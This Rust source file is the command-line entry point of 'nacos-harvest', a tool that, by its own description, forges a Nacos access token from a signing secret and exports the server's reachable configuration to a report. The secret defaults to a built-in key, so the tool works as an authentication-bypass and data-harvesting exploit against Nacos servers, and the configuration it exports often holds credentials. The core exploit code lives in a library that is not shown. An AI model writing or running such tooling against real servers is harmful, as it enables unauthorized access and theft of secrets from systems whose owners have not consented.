//! `nacos-harvest` command line entry point.

use clap::error::ErrorKind;
use clap::Parser;
use nacos_harvest::{
    harvest_with, HarvestConfig, HarvestError, HarvestOutcome, SigningCredential, AUTH_FAILURE_LINE,
    DEFAULT_EXPIRY_SECONDS, DEFAULT_MAX_CONFIG_COUNT, DEFAULT_PRINCIPAL,
    DEFAULT_REQUEST_TIMEOUT_SECS, DEFAULT_SECRET_KEY,
};
use std::path::PathBuf;
use std::process::ExitCode;
use std::time::Duration;
use tracing_subscriber::{layer::SubscriberExt, util::SubscriberInitExt};

#[derive(Parser, Debug)]
#[command(name = "nacos-harvest")]
#[command(version, about = "Forge a Nacos access token and export reachable configuration", long_about = None)]
struct Cli {
    /// Server base URL, e.g. http://10.0.0.5:8848
    host: String,

    /// Token signing secret as configured on the server (base64, or plain text when it does not decode)
    #[arg(default_value = DEFAULT_SECRET_KEY)]
    secret_key: String,

    /// Directory the report is written to (defaults to the current directory)
    output_path: Option<PathBuf>,

    /// Maximum number of configuration bodies to fetch
    #[arg(default_value_t = DEFAULT_MAX_CONFIG_COUNT)]
    max_config_count: usize,

    /// Principal placed in the token's `sub` claim
    #[arg(long, default_value = DEFAULT_PRINCIPAL)]
    principal: String,

    /// Token lifetime in seconds
    #[arg(long, default_value_t = DEFAULT_EXPIRY_SECONDS)]
    expiry_seconds: i64,

    /// Per-request timeout in seconds
    #[arg(long, default_value_t = DEFAULT_REQUEST_TIMEOUT_SECS)]
    timeout_secs: u64,

    /// Use the secret's bytes as-is instead of base64-decoding it
    #[arg(long)]
    raw_secret: bool,
}

impl Cli {
    fn into_config(self) -> Result<HarvestConfig, HarvestError> {
        let credential = if self.raw_secret {
            SigningCredential::new(self.secret_key.into_bytes(), self.principal, self.expiry_seconds)?
        } else {
            SigningCredential::from_base64_secret(&self.secret_key, self.principal, self.expiry_seconds)?
        };

        let mut config = HarvestConfig::new(&self.host)?
            .with_credential(credential)
            .with_max_config_count(self.max_config_count)
            .with_request_timeout(Duration::from_secs(self.timeout_secs));

        if let Some(output_path) = self.output_path {
            config = config.with_output_dir(output_path);
        }
        Ok(config)
    }
}

fn init_tracing() {
    tracing_subscriber::registry()
        .with(
            tracing_subscriber::EnvFilter::try_from_default_env()
                .unwrap_or_else(|_| "nacos_harvest=info".into()),
        )
        .with(tracing_subscriber::fmt::layer().with_writer(std::io::stderr))
        .init();
}

#[tokio::main]
async fn main() -> ExitCode {
    let cli = match Cli::try_parse() {
        Ok(cli) => cli,
        Err(e) => {
            let code = match e.kind() {
                ErrorKind::DisplayHelp | ErrorKind::DisplayVersion => 0,
                _ => 1,
            };
            let _ = e.print();
            return ExitCode::from(code);
        }
    };

    init_tracing();

    let config = match cli.into_config() {
        Ok(config) => config,
        Err(e) => {
            eprintln!("{}", e);
            return ExitCode::from(1);
        }
    };

    let run = harvest_with(&config, |token| println!("Token generated: {}", token));
    match run.await {
        Ok(summary) => {
            match &summary.outcome {
                HarvestOutcome::Completed => {
                    println!("Total configs retrieved: {}", summary.recorded);
                }
                HarvestOutcome::AuthFailed(_) => eprintln!("{}", AUTH_FAILURE_LINE),
            }
            if let Some(path) = &summary.report_path {
                println!("Operation completed. Results written to: {}", path.display());
            }
            ExitCode::SUCCESS
        }
        Err(HarvestError::Config(msg)) => {
            eprintln!("Configuration error: {}", msg);
            ExitCode::from(1)
        }
        Err(e) => {
            eprintln!("Error occurred while fetching configs: {}", e);
            ExitCode::from(2)
        }
    }
}
